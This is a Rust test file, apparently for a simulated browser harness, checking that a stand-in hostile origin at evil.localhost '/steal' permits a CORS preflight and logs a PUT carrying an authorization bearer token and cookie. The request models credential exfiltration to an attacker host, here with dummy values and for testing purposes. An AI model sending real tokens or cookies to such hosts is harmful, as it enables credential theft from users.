//! The hostile origin answers everything and lets everybody read it; the log has it all.

use serde_json::json;

use crate::browser::*;

#[test]
fn it_permits_everything_and_is_logged() {
    let mut browser = Browser::new();
    let url = "http://evil.localhost:9400/steal?x=1";
    let preflight = [
        ("origin", APP),
        ("access-control-request-method", "PUT"),
        ("access-control-request-headers", "authorization"),
    ];
    let response = browser.send("OPTIONS", url, &preflight, "");
    assert_eq!(response.status, 200);
    assert_eq!(
        response.header("access-control-allow-headers"),
        Some("authorization")
    );
    assert_eq!(response.header("access-control-allow-origin"), Some(APP));
    let response = browser.send(
        "PUT",
        url,
        &[
            ("origin", APP),
            ("authorization", "Bearer t"),
            ("cookie", "a=b"),
        ],
        "body",
    );
    assert_eq!(response.body_json().unwrap(), json!({"evil": true}));
    let log = browser.log();
    assert_eq!(
        (
            &log[0]["preflight"],
            &log[1]["preflight"],
            &log[1]["double"]
        ),
        (&json!(true), &json!(false), &json!("evil"))
    );
    assert_eq!(log[1]["query"], json!({"x": "1"}));
    assert_eq!(log[1]["authorization"]["scheme"], json!("Bearer"));
}
